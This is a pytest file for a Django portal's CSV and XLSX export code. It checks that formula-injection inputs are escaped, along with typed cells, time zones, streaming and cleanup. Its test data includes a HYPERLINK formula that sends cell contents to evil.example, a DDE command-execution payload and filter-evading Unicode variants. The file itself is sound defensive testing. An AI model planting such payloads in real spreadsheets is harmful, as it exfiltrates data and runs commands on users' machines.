from datetime import UTC, date, datetime
from zoneinfo import ZoneInfo

import pytest
from django.utils import timezone

from clea_portal.spreadsheets import XLSX_CHARACTERS, csv_pieces, is_formula, safe_text, write_xlsx
from tests.spreadsheets import content_of, csv_rows, xlsx_cells

ATTACKS = [
    '=HYPERLINK("https://evil.example?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
]
MOMENT = datetime(2026, 6, 12, 12, 30, tzinfo=UTC)


@pytest.fixture(autouse=True)
def _in_paris():
    with timezone.override(ZoneInfo("Europe/Paris")):
        yield


def written(heading, rows):
    return content_of(write_xlsx(heading, rows, alive=lambda: None))


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_spreadsheet_would_run_is_text_in_csv(attack):
    assert (is_formula(attack), safe_text(attack)) == (True, f"'{attack}")
    assert csv_rows(b"".join(csv_pieces([["a"]], [[attack]]))) == [["a"], [f"'{attack}"]]


@pytest.mark.parametrize("text", ["", "Le Drac", "'quoted'", "1+1", "a=b", "é", "0476", "a\n=b", 'a";=1+1'])
def test_what_is_no_formula_stays_as_it_is(text):
    assert (is_formula(text), safe_text(text)) == (False, text)


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_spreadsheet_would_run_is_text_in_xlsx(attack):
    [_heading, [cell]] = xlsx_cells(written(["a"], [[attack]]))
    assert (cell[0], cell[1].replace("_x000D_", "\r").strip()) == ("inlineStr", attack.strip())


def test_cell_cannot_break_out_of_its_column():
    attack = 'a";=1+1;"\r\n=2+2'
    assert csv_rows(b"".join(csv_pieces([["a", "b"]], [[attack, "c"]]))) == [["a", "b"], [attack, "c"]]


def test_csv_has_its_mark_its_headings_and_typed_cells():
    row = ["Été", 3, 2.5, MOMENT, date(2026, 6, 12), None, -5]
    content = b"".join(csv_pieces([["a"], ["b"]], [row]))
    assert content.decode() == '\ufeff"a"\r\n"b"\r\n"Été";3;2.5;"2026-06-12 14:30:00";"2026-06-12";"";-5\r\n'
    assert b"".join(csv_pieces([["a"]], [], delimiter=",", marked=False)) == b'"a"\r\n'


def test_csv_is_made_row_by_row():
    asked = []

    def rows():
        for number in range(3):
            asked.append(number)
            yield [number]

    pieces = csv_pieces([["a"]], rows())
    assert asked == []
    next(pieces)
    assert asked == [0]


def test_xlsx_has_typed_cells_in_the_wall_clock_s_time():
    heading, row = xlsx_cells(written(["a", "b", "c", "d", "e"], [["Été", 3, MOMENT, date(2026, 6, 12), None]]))
    assert heading == [("inlineStr", name) for name in "abcde"]
    # Days since the end of 1899; 14:30 in Paris.
    assert row == [("inlineStr", "Été"), ("n", "3"), ("n", f"{46185 + 14.5 / 24:.16G}"), ("n", "46185")]


def test_text_longer_than_a_cell_is_cut_in_xlsx():
    assert len(xlsx_cells(written(["a"], [["x" * (XLSX_CHARACTERS + 5)]]))[1][0][1]) == XLSX_CHARACTERS


def test_control_characters_leave_the_file_readable():
    assert xlsx_cells(written(["a"], [["a\x00\x1bb"]]))[1][0][0] == "inlineStr"


def test_work_says_that_it_goes_on_and_leaves_nothing_behind_when_stopped(tmp_path, monkeypatch):
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    said = []
    content_of(write_xlsx(["a"], [["b"]], alive=lambda: said.append(1)))
    assert len(said) > 3

    def rows():
        yield ["a"]
        raise RuntimeError("stopped")

    with pytest.raises(RuntimeError):
        write_xlsx(["a"], rows(), alive=lambda: None)
    assert list(tmp_path.iterdir()) == []
